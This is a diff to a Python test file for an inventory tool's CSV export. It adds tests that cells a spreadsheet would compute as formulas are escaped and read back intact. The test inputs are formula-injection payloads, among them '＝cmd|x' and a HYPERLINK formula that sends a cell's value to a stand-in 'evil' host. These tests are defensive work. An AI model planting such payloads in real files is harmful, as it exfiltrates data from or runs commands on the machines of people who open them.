@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import string
 from pathlib import Path
 
@@ -14,6 +15,7 @@ from volact.inventory import load_inventory
 from volact.inventory.export import FORMATS, export
 from volact.model.profile import Image
 from volact.model.server import Address, Credential, Scheme, Server, SshRoute, WinRm, WinRmAuth
+from volact.model.spreadsheet import guarded, unguarded
 
 _HERE = Address(scheme="ssh", host="10.0.0.5")
 SUFFIX = {"toml": ".toml", "csv": ".csv", "ansible": ".yml"}
@@ -149,13 +151,41 @@ def test_no_secret_is_exported(tmp_path: Path, format_: str) -> None:
     assert note.startswith("passwords in clear are not exported (1 server)")
 
 
-def test_a_cell_that_a_spreadsheet_would_compute_is_guarded(tmp_path: Path) -> None:
-    server = Server(name="=1+1", address=Address(scheme="ssh", host="h"))
+@pytest.mark.parametrize(
+    ("name", "tags", "cells"),
+    [
+        ("=1+1", (), "'=1+1,ssh://h"),
+        ("＝cmd|x", (), "'＝cmd|x,ssh://h"),
+        ("'=1", (), "''=1,ssh://h"),
+        ("web", ("prod", '=HYPERLINK("http://evil/"&A1)'), "\"prod;'=HYPERLINK("),
+        ("web", ("prod", '"=1"'), '"prod;\'""=1'),
+        ("web", ("＋1", "'-1", "a"), "'＋1;''-1;a"),
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_compute_is_guarded(
+    tmp_path: Path, name: str, tags: tuple[str, ...], cells: str
+) -> None:
+    server = Server(name=name, address=Address(scheme="ssh", host="h"), tags=tags)
     text = export([server], {}, "csv").text
-    assert "'=1+1,ssh://h" in text
+    assert cells in text
     path = tmp_path / "out.csv"
-    path.write_text(text, newline="")
+    path.write_text(text, "utf-8", newline="")
     assert load_inventory(path).servers == (server,)
+
+
+def test_a_tag_that_begins_with_a_blank_is_guarded() -> None:
+    server = Server(name="web", address=_HERE, tags=(" =1+1",))
+    assert "' =1+1" in export([server], {}, "csv").text
+
+
+PARTS = st.lists(st.sampled_from([*"=+-@＝－;;'\" \t\r\na"]), max_size=10).map("".join)
+
+
+@settings(max_examples=1000)
+@given(text=PARTS)
+def test_what_is_guarded_is_no_formula_and_reads_back(text: str) -> None:
+    assert not re.search(r'(?:^|;)[\s"]*[=+@＝－-]|^[\t\r]', guarded(text))
+    assert unguarded(guarded(text)) == text
 
 
 @pytest.mark.parametrize(
